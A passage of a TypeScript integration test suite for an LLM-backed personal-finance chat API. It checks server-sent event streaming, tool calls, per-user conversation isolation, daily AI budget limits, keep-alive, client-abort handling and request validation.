      RATE_LIMIT_DEFAULT: '100000,100000,60',
      RATE_LIMIT_SIGNIN: '100000,100000,60',
      RATE_LIMIT_CHAT: '100000,100000,60',
    });
    await import('../../functions/index.js');
    authUrl = await serveRegistered('auth', servers);
    chatUrl = await serveRegistered('chat', servers);
  });

  /** Signs in through the dev login; returns the session cookie and the uid. */
  async function signIn(email: string): Promise<{ cookie: string; uid: string }> {
    const res = await fetch(`${authUrl}/auth/dev/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email }) });
    expect(res.status).toBe(200);
    const cookie = res.headers.get('set-cookie')!.split(';')[0]!;
    return { cookie, uid: ((await res.json()) as { uid: string }).uid };
  }

  const post = (cookie: string, body: unknown, accept?: string) =>
    fetch(`${chatUrl}/api/chat`, { method: 'POST', headers: { 'content-type': 'application/json', cookie, ...(accept ? { accept } : {}) }, body: JSON.stringify(body) });

  /** The events of a server-sent event stream, data parsed. */
  const eventsOf = (text: string): Array<{ event: string; data: any }> =>
    text
      .split('\n\n')
      .filter((block) => block.trim() !== '')
      .map((block) => {
        const lines = block.split('\n');
        const event = lines.find((l) => l.startsWith('event: '))!.slice('event: '.length);
        const data = JSON.parse(lines.filter((l) => l.startsWith('data: ')).map((l) => l.slice('data: '.length)).join('\n'));
        return { event, data };
      });

  it('streams conversation, tool, delta… and done events; the deltas make the verified answer', async () => {
    const { cookie, uid } = await signIn('chat.sse@example.com');
    const user = await seedPersona(db, systemClock, uid, '2222222222');
    const res = await post(cookie, { message: 'What is my net worth?' }, 'text/event-stream');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/event-stream/);
    const events = eventsOf(await res.text());
    const kinds = events.map((e) => e.event);
    expect(kinds[0]).toBe('conversation');
    expect(kinds[1]).toBe('tool');
    expect(kinds.at(-1)).toBe('done');
    expect(kinds.slice(2, -1).every((k) => k === 'delta')).toBe(true);
    expect(kinds.length).toBeGreaterThan(3);
    expect(events[1]!.data).toEqual({ name: 'get_overview', ok: true });
    const done = events.at(-1)!.data;
    expect(done).toMatchObject({ conversationId: events[0]!.data.conversationId, provider: 'local', degraded: false });
    expect(events.slice(2, -1).map((e) => e.data.text).join('')).toBe(done.answer);
    expect(done.answer).toContain(formatRupees(netWorthOf(user)));
    // The structured log line of the turn carries the usage as numbers (not redacted away).
    const turn = logs.lines().find((l) => l['message'] === 'chat turn' && l['uid'] === uid);
    expect(turn).toMatchObject({ provider: 'local', toolRounds: 1, ungrounded: 0, usageInput: done.usage.inputTokens, usageOutput: done.usage.outputTokens });

    // Without Accept: text/event-stream, one JSON answer; the conversation continues.
    const json = await post(cookie, { message: 'What is my credit score?', conversationId: done.conversationId });
    expect(json.status).toBe(200);
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
    const answer = (await json.json()) as { conversationId: string; provider: string; answer: string; tools: unknown[] };
    expect(answer).toMatchObject({ conversationId: done.conversationId, provider: 'local', tools: [{ name: 'get_credit', ok: true }] });

    const list = await fetch(`${chatUrl}/api/chat/conversations`, { headers: { cookie } });
    expect(((await list.json()) as { conversations: Array<{ id: string }> }).conversations.map((c) => c.id)).toEqual([done.conversationId]);
    const one = await fetch(`${chatUrl}/api/chat/conversations/${done.conversationId}`, { headers: { cookie } });
    expect(((await one.json()) as { messages: unknown[] }).messages).toHaveLength(4);

    // Another user: 404 for this conversation, in every verb.
    const other = await signIn('chat.other@example.com');
    expect((await fetch(`${chatUrl}/api/chat/conversations/${done.conversationId}`, { headers: { cookie: other.cookie } })).status).toBe(404);
    expect((await post(other.cookie, { message: 'hi', conversationId: done.conversationId }, 'text/event-stream')).status).toBe(404);
    expect((await fetch(`${chatUrl}/api/chat/conversations/${done.conversationId}`, { method: 'DELETE', headers: { cookie: other.cookie } })).status).toBe(404);
    expect((await fetch(`${chatUrl}/api/chat/conversations/${done.conversationId}`, { method: 'DELETE', headers: { cookie } })).status).toBe(204);
    expect((await fetch(`${chatUrl}/api/chat/conversations/${done.conversationId}`, { headers: { cookie } })).status).toBe(404);
  });

  it('answers 429 JSON naming the problem when the day’s AI allowance is used up, streaming or not', async () => {
    const { cookie, uid } = await signIn('chat.budget@example.com');
    const now = new Date();
    await new FirestoreAiUsageLedger(db).record(uid, istDate(now), { at: now.toISOString(), provider: 'local', model: 'local-rules-v1', purpose: 'chat', inputTokens: 1_000_000, outputTokens: 0, costUsd: 0 });
    for (const accept of ['text/event-stream', undefined]) {
      const res = await post(cookie, { message: 'What is my net worth?' }, accept);
      expect(res.status).toBe(429);
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
      const body = (await res.json()) as { error: { code: string; message: string } };
      expect(body.error.code).toBe('AI.BUDGET_EXHAUSTED');
      expect(body.error.message).toMatch(/AI allowance/);
    }
    expect((await db.collection(`users/${uid}/conversations`).get()).size).toBe(0);
  });

  describe('with a slow model (the real chat function over scripted Gemini)', () => {
    let slowUrl: string;
    let slowLlm: Llm | undefined;
    beforeAll(async () => {
      const { http } = await import('@google-cloud/functions-framework');
      const { getDeps } = await import('../../functions/deps.js');
      const { chat } = await import('../../functions/http/chat.http.js');
      // The registered wiring, with the model swapped for GeminiLlm over the fake, and a short keep-alive.
      http('chatSlowModel', chat(() => ({ ...getDeps(), llm: async () => slowLlm! }), { keepAliveMs: 50 }));
      slowUrl = await serveRegistered('chatSlowModel', servers);
    });

    const postSlow = (cookie: string, body: unknown, signal?: AbortSignal) =>
      fetch(`${slowUrl}/api/chat`, { method: 'POST', headers: { 'content-type': 'application/json', cookie, accept: 'text/event-stream' }, body: JSON.stringify(body), ...(signal ? { signal } : {}) });

    async function eventually(check: () => Promise<boolean>, timeoutMs = 10_000): Promise<void> {
      const until = Date.now() + timeoutMs;
      while (!(await check())) {
        if (Date.now() > until) throw new Error('condition not met in time');
        await new Promise((r) => setTimeout(r, 50));
      }
    }

    it('sends a keep-alive comment while a slow turn runs; the events around it are unchanged', async () => {
      const { cookie, uid } = await signIn('chat.keepalive@example.com');
      const user = await seedPersona(db, systemClock, uid, '2222222222');
      const nw = formatRupees(netWorthOf(user));
      const { fake, llm } = await gemini([{ delayMs: 400, functionCalls: [{ name: 'get_overview', args: {} }] }, { text: `Your net worth is ${nw} (get_overview).` }]);
      slowLlm = llm;
      const res = await postSlow(cookie, { message: 'What is my net worth?' });
      expect(res.status).toBe(200);
      const text = await res.text();
      expect(text).toMatch(/(^|\n\n): keep-alive\n\n/);
      const events = eventsOf(
        text
          .split('\n\n')
          .filter((block) => !block.startsWith(':'))
          .join('\n\n'),
      );
      expect(events.map((e) => e.event)[0]).toBe('conversation');
      expect(events.at(-1)).toMatchObject({ event: 'done', data: { provider: 'gemini', degraded: false } });
      expect(events.at(-1)!.data.answer).toContain(nw);
      expect(fake.requests).toHaveLength(2);
    });

    it('a client that disconnects mid-turn stops it: no further model call, nothing stored, the call made still recorded', async () => {
      const { cookie, uid } = await signIn('chat.abort@example.com');
      await seedPersona(db, systemClock, uid, '2222222222');
      const { fake, llm } = await gemini([{ delayMs: 800, functionCalls: [{ name: 'get_overview', args: {} }] }, { text: 'never asked for' }]);
      slowLlm = llm;
      const controller = new AbortController();
      const res = await postSlow(cookie, { message: 'What is my net worth?' }, controller.signal);
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      let seen = '';
      while (!seen.includes('event: conversation')) {
        const { value, done } = await reader.read();
        if (done) break;
        seen += new TextDecoder().decode(value);
      }
      controller.abort();
      // The slow answer still arrives and is recorded; then the turn must stop there.
      const ledger = new FirestoreAiUsageLedger(db);
      const day = istDate(new Date());
      await eventually(async () => (await ledger.day(uid, day)).calls >= 1);
      await new Promise((r) => setTimeout(r, 700));
      expect(fake.requests).toHaveLength(1);
      expect((await db.collection(`users/${uid}/conversations`).get()).size).toBe(0);
      // Ended: the call made is recorded and the reservation released.
      expect(await ledger.day(uid, day)).toMatchObject({ calls: 1, reserved: 0 });
    });
  });

  it('refuses a bad body with 400 naming the field', async () => {
    const { cookie } = await signIn('chat.bad@example.com');
    const res = await post(cookie, { message: '', conversationId: 'users/x' }, 'text/event-stream');
    expect(res.status).toBe(400);
    const body = (await res.json()) as { error: { problems: Array<{ field: string }> } };
    expect(body.error.problems.map((p) => p.field).sort()).toEqual(['conversationId', 'message']);
  });
});
